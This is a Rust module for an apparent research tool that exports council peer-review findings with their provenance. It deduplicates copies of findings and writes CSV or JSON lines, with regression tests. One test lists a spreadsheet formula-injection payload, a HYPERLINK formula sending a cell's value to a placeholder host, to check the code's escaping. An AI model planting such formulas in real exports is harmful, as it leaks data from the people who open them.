//! One row per finding with its provenance: what `peerscope export` writes as CSV or JSON
//! lines, for a researcher's statistics package.
//!
//! A finding published in several forms (a report's PDF, its web page, a council's copy) is
//! one row, its other sources in `also_in`, as `themes` and the answers count it: rows per
//! copy counted a report twice. `--all-copies` keeps a row per copy.

use peerscope_model::Document;
use serde::Serialize;

use rustc_hash::FxHashMap as HashMap;

use crate::filter::{finding_key, Filter};

/// A finding and everything needed to trace it back (columns in this order).
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct FindingRow {
    pub council: String,
    pub gss_code: String,
    pub region: String,
    pub review_type: String,
    pub review_year: Option<i32>,
    pub service: String,
    pub doc_kind: String,
    pub kind: String,
    /// Theme ids separated by ";".
    pub themes: String,
    pub text: String,
    pub section: String,
    /// For best-practice pointers: the councils pointed to, separated by ";".
    pub points_to: String,
    pub title: String,
    /// Path or URL of the published form this row was read from.
    pub source: String,
    /// Byte span of the finding in that document's extracted text (`peerscope extract --text`).
    pub start: usize,
    pub end: usize,
    /// How sure the reader is that this is a finding of this kind (0–1).
    pub confidence: f32,
    /// SHA-256 of the document's bytes: rows of one published form share it.
    pub document_id: String,
    /// The other published forms holding the same finding (same council, same words),
    /// separated by ";".
    pub also_in: String,
    /// Where the document is published on the web (what `fetch` fetched, or the
    /// `sources.toml` beside an ingested file names), so a row can be cited by its public
    /// address when `source` is a local path; empty when not known.
    pub url: String,
}

/// The rows of the documents and findings `filter` keeps, in the order given.
pub fn rows<'a>(documents: impl IntoIterator<Item = (&'a str, &'a Document, &'a [String])>, filter: &Filter) -> Vec<FindingRow> {
    let mut out = Vec::new();
    for (id, d, sources) in documents {
        if !filter.keeps_document(d) {
            continue;
        }
        let council = d.council.as_ref();
        for source in sources.iter().take(1) {
            for f in d.findings.iter().filter(|f| filter.keeps_finding(f)) {
                out.push(FindingRow {
                    council: council.map(|c| c.name.clone()).unwrap_or_default(),
                    gss_code: council.and_then(|c| c.gss_code.clone()).unwrap_or_default(),
                    region: council.and_then(|c| c.region.clone()).unwrap_or_default(),
                    review_type: d.review_type.as_str().into(),
                    review_year: d.review_year,
                    service: d.service.as_str().into(),
                    doc_kind: d.doc_kind.as_str().into(),
                    kind: f.kind.as_str().into(),
                    themes: f.themes.join(";"),
                    text: f.text.clone(),
                    section: f.section.clone().unwrap_or_default(),
                    points_to: f.council.iter().chain(f.also.iter()).cloned().collect::<Vec<_>>().join(";"),
                    title: d.title.clone(),
                    source: source.clone(),
                    start: f.start,
                    end: f.end,
                    confidence: f.confidence,
                    document_id: id.to_string(),
                    also_in: String::new(),
                    url: published_at(d.url.as_deref(), &source),
                });
            }
        }
    }
    out
}

/// Where a document is published: the address its record keeps, or its source when that is
/// the address it was fetched from (a record does not keep the same address twice).
/// Regression: every fetched document's `url` column was empty.
pub fn published_at(url: Option<&str>, source: &str) -> String {
    // Only a web address: a record stored before addresses were checked may hold another.
    let web = peerscope_model::text::is_web_address;
    match url {
        Some(u) if web(u) => u.to_string(),
        Some(_) => String::new(),
        None if web(source) => source.to_string(),
        None => String::new(),
    }
}

impl FindingRow {
    /// The row of a finding found by a search: its document's values from the index's
    /// columns (`c`), its own from its stored fields (`h`).
    pub fn found(c: &peerscope_index::Candidate, h: &peerscope_index::Hit) -> FindingRow {
        FindingRow {
            council: h.council.clone(),
            gss_code: h.gss_code.clone(),
            region: h.region.clone(),
            review_type: c.review_type.to_string(),
            review_year: h.year.and_then(|y| i32::try_from(y).ok()),
            service: c.service.to_string(),
            doc_kind: c.doc_kind.to_string(),
            kind: h.kind.clone(),
            themes: h.themes.join(";"),
            text: h.text.clone(),
            section: h.section.clone(),
            points_to: h.pointers.join(";"),
            title: h.title.clone(),
            source: h.source.clone(),
            start: h.start as usize,
            end: h.end as usize,
            confidence: h.confidence,
            document_id: h.doc_id.clone(),
            also_in: String::new(),
            // Filled by whoever holds the documents' records (`Engine::matching_rows`).
            url: String::new(),
        }
    }
}

/// Copies of one finding ([`finding_key`]: the same council, review year and words) folded
/// into the first row, the others' sources in its `also_in`; with `all_copies`, every row
/// stays and names the others. The year keeps apart a finding made again in a later review,
/// which is a finding of its own.
pub fn fold_copies(mut rows: Vec<FindingRow>, all_copies: bool) -> Vec<FindingRow> {
    // Rows by copy, as positions: an export may hold hundreds of thousands of rows, and the
    // keys are hashed (64 bits of SipHash: no two findings of an export collide by chance,
    // nor easily by a stranger's design, as with a fast hash).
    let mut copies: HashMap<u64, Vec<usize>> = HashMap::default();
    for (i, r) in rows.iter().enumerate() {
        copies.entry(copy_key(r)).or_default().push(i);
    }
    let mut keep = vec![all_copies; rows.len()];
    for group in copies.values().filter(|g| g.len() > 1 || !all_copies) {
        // The copy read with most confidence stands for the finding (the first of those as
        // sure): a finding passes `--min-confidence` when any copy does, so the row kept
        // then is the one kept without the filter (regression: a filtered export held a
        // row the unfiltered one did not, the other copy's).
        // Among copies read as surely, the first by source and place: the same row whatever
        // order the rows came in (the web page's downloads come best first, the CLI's in
        // the documents' order; they cited different copies of one finding).
        let cites = |i: usize| (std::cmp::Reverse(rows[i].confidence.to_bits()), rows[i].source.as_str(), rows[i].start);
        let stands = group.iter().copied().min_by(|&a, &b| cites(a).cmp(&cites(b))).unwrap_or(group[0]);
        keep[stands] = true;
        // Under every theme any copy carries, as `themes` counts it and `--theme` finds it.
        let themes = union_of_themes(&rows[stands].themes, group.iter().map(|&j| rows[j].themes.as_str()));
        for &i in group {
            rows[i].themes.clone_from(&themes);
        }
        // The group's sources once, in row order; each row names the others, at most
        // `ALSO_IN` of them (a site serving one report under 2,000 addresses made every
        // row name 2,000 others: gigabytes).
        let mut seen = std::collections::HashSet::new();
        let sources: Vec<String> = group.iter().map(|&j| rows[j].source.clone()).filter(|s| seen.insert(s.clone())).collect();
        for &i in group.iter().filter(|&&i| all_copies || i == stands) {
            rows[i].also_in = also_in(&sources, &rows[i].source);
        }
    }
    rows.into_iter().zip(keep).filter_map(|(r, keep)| keep.then_some(r)).collect()
}

/// The themes of a finding's copies, each once: those of the copy that stands for it,
/// then the others' in name order (whatever order the copies came in).
fn union_of_themes<'a>(stands: &str, copies: impl Iterator<Item = &'a str>) -> String {
    let own: Vec<&str> = stands.split(';').filter(|t| !t.is_empty()).collect();
    let mut more: Vec<&str> = copies.flat_map(|c| c.split(';')).filter(|t| !t.is_empty() && !own.contains(t)).collect();
    more.sort_unstable();
    more.dedup();
    own.into_iter().chain(more).collect::<Vec<_>>().join(";")
}

/// Sources named in one row's `also_in`; more are counted ("+1,980 more").
const ALSO_IN: usize = 20;

/// `sources` other than `own`, ";"-separated, the first [`ALSO_IN`] of them.
fn also_in(sources: &[String], own: &str) -> String {
    let others: Vec<&str> = sources.iter().map(String::as_str).filter(|s| *s != own).collect();
    let mut out = others.iter().take(ALSO_IN).copied().collect::<Vec<_>>().join(";");
    if others.len() > ALSO_IN {
        out.push_str(&format!(";+{} more", others.len() - ALSO_IN));
    }
    out
}

/// What copies of a finding share: its council, its review's year and its words.
fn copy_key(r: &FindingRow) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut h = std::hash::DefaultHasher::new();
    finding_key(&r.council, r.review_year, &r.text).hash(&mut h);
    h.finish()
}

/// The columns of a CSV export, in order.
pub const CSV_HEADER: [&str; 20] = [
    "council", "gss_code", "region", "review_type", "review_year", "service", "doc_kind", "kind", "themes", "text", "section", "points_to", "title", "source", "start", "end", "confidence", "document_id", "also_in", "url",
];

/// What a spreadsheet reads as a formula when a cell starts with it (OWASP's list).
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// A cell a spreadsheet shows as the text it is: one starting like a formula gets a leading
/// apostrophe, so `=HYPERLINK(…)` in a stranger's title is never run by the researcher who
/// opens the export.
pub fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

impl FindingRow {
    /// The row as CSV cells, in [`CSV_HEADER`]'s order, every text made safe for a
    /// spreadsheet ([`spreadsheet_text`]); numbers as numbers.
    pub fn csv_record(&self) -> [String; 20] {
        let t = |s: &str| spreadsheet_text(s).into_owned();
        [
            t(&self.council),
            t(&self.gss_code),
            t(&self.region),
            t(&self.review_type),
            self.review_year.map(|y| y.to_string()).unwrap_or_default(),
            t(&self.service),
            t(&self.doc_kind),
            t(&self.kind),
            t(&self.themes),
            t(&self.text),
            t(&self.section),
            t(&self.points_to),
            t(&self.title),
            t(&self.source),
            self.start.to_string(),
            self.end.to_string(),
            self.confidence.to_string(),
            t(&self.document_id),
            t(&self.also_in),
            t(&self.url),
        ]
    }
}

/// Write `rows` as RFC 4180 CSV (every field that needs it quoted), UTF-8, optionally with a
/// byte-order mark so spreadsheet programs read the encoding right; no cell a spreadsheet
/// would run ([`FindingRow::csv_record`]).
pub fn write_csv(sink: &mut dyn std::io::Write, rows: &[FindingRow], bom: bool) -> std::io::Result<()> {
    if bom {
        sink.write_all("\u{feff}".as_bytes())?;
    }
    // RFC 4180 ends records with CRLF (the csv crate's default is LF).
    let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(sink);
    w.write_record(CSV_HEADER).map_err(csv_error)?;
    for r in rows {
        w.write_record(r.csv_record()).map_err(csv_error)?;
    }
    w.flush()
}

/// Write `rows` as JSON lines: one object per finding, its text exactly as read.
pub fn write_jsonl(sink: &mut dyn std::io::Write, rows: &[FindingRow]) -> std::io::Result<()> {
    for r in rows {
        serde_json::to_writer(&mut *sink, r)?;
        sink.write_all(b"\n")?;
    }
    Ok(())
}

/// A write error inside csv is an io error (a closed pipe stays recognisable as one).
fn csv_error(e: csv::Error) -> std::io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(io) => io,
        other => std::io::Error::other(format!("writing CSV: {other:?}")),
    }
}

#[cfg(test)]
mod csv_tests {
    use super::*;

    #[test]
    fn cells_that_start_like_formulas_are_shown_as_text() {
        for bad in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(spreadsheet_text(bad).starts_with('\''), "{bad:?}");
        }
        assert_eq!(spreadsheet_text("Carers are valued."), "Carers are valued.");
    }

    fn row(council: &str, text: &str, source: &str) -> FindingRow {
        FindingRow {
            council: council.into(),
            gss_code: String::new(),
            region: String::new(),
            review_type: String::new(),
            review_year: None,
            service: String::new(),
            doc_kind: String::new(),
            kind: "strength".into(),
            themes: String::new(),
            text: text.into(),
            section: String::new(),
            points_to: String::new(),
            title: String::new(),
            source: source.into(),
            start: 0,
            end: 0,
            confidence: 1.0,
            document_id: source.into(),
            also_in: String::new(),
            url: String::new(),
        }
    }

    /// Regression: a report ingested as PDF and as text was two rows per finding, so an
    /// export counted its findings twice where `themes` counted them once.
    #[test]
    fn copies_of_a_finding_are_one_row_naming_the_others() {
        let later = FindingRow { review_year: Some(2018), ..row("Walsall", "Carers are valued.", "c.txt") };
        let rows = vec![row("Walsall", "Carers are valued.", "a.pdf"), row("Walsall", "Carers  are valued", "a.txt"), row("Torbay", "Carers are valued.", "b.txt"), row("Walsall", "Staff are valued.", "a.pdf"), later];
        let folded = fold_copies(rows.clone(), false);
        let seen: Vec<(&str, &str, &str)> = folded.iter().map(|r| (r.council.as_str(), r.source.as_str(), r.also_in.as_str())).collect();
        // The same words in a later review are a finding made again, not a copy.
        assert_eq!(seen, [("Walsall", "a.pdf", "a.txt"), ("Torbay", "b.txt", ""), ("Walsall", "a.pdf", ""), ("Walsall", "c.txt", "")]);
        let every = fold_copies(rows, true);
        assert_eq!(every.len(), 5);
        assert_eq!(every[1].also_in, "a.pdf");
        // Regression: one report under 2,000 addresses made each row name 1,999 others.
        let many: Vec<FindingRow> = (0..2000).map(|i| row("Walsall", "Carers are valued.", &format!("u{i}"))).collect();
        let every = fold_copies(many, true);
        assert!(every.iter().all(|r| r.also_in.split(';').count() == ALSO_IN + 1 && r.also_in.ends_with(";+1979 more")), "{}", every[0].also_in);
    }

    /// Regression: copies read with different confidence (0.885, 0.893) made a filtered
    /// export hold a row the unfiltered one did not: the surest copy stands for the finding.
    #[test]
    fn the_surest_copy_stands_for_a_finding() {
        let rows = vec![FindingRow { confidence: 0.885, ..row("Leicester", "Boundaries need clarification.", "a.txt") }, FindingRow { confidence: 0.893, ..row("Leicester", "Boundaries need clarification.", "a.pdf") }];
        let folded = fold_copies(rows, false);
        assert_eq!((folded.len(), folded[0].source.as_str(), folded[0].also_in.as_str()), (1, "a.pdf", "a.txt"));
    }

    /// Regression: the web page's downloads (best first) cited Walsall's PDF copy of a
    /// finding and the CLI's (in the documents' order) its text copy; and the full export
    /// filed a finding under its text copy's themes only, so filtering its `themes` column
    /// found one fewer finance finding than `export --theme finance`.
    #[test]
    fn the_row_kept_is_the_same_in_any_order_and_carries_every_copys_themes() {
        let txt = FindingRow { themes: "learning;practice-quality".into(), start: 40856, ..row("Walsall", "The council should consider sharing practice.", "w.txt") };
        let pdf = FindingRow { themes: "learning;finance".into(), start: 41152, ..row("Walsall", "The council should consider sharing practice.", "w.pdf") };
        let one = fold_copies(vec![txt.clone(), pdf.clone()], false);
        let other = fold_copies(vec![pdf, txt], false);
        assert_eq!(one, other);
        assert_eq!((one[0].source.as_str(), one[0].themes.as_str()), ("w.pdf", "learning;finance;practice-quality"));
    }

    /// Regression: records ended in LF where the README promises RFC 4180 (CRLF).
    #[test]
    fn csv_records_end_in_crlf() {
        let mut out = Vec::new();
        write_csv(&mut out, &[row("Walsall", "Carers are valued.", "a.txt")], false).unwrap();
        let out = String::from_utf8(out).unwrap();
        assert_eq!(out.matches("\r\n").count(), 2, "{out:?}");
        assert_eq!(out.matches('\n').count(), 2, "{out:?}");
    }
}
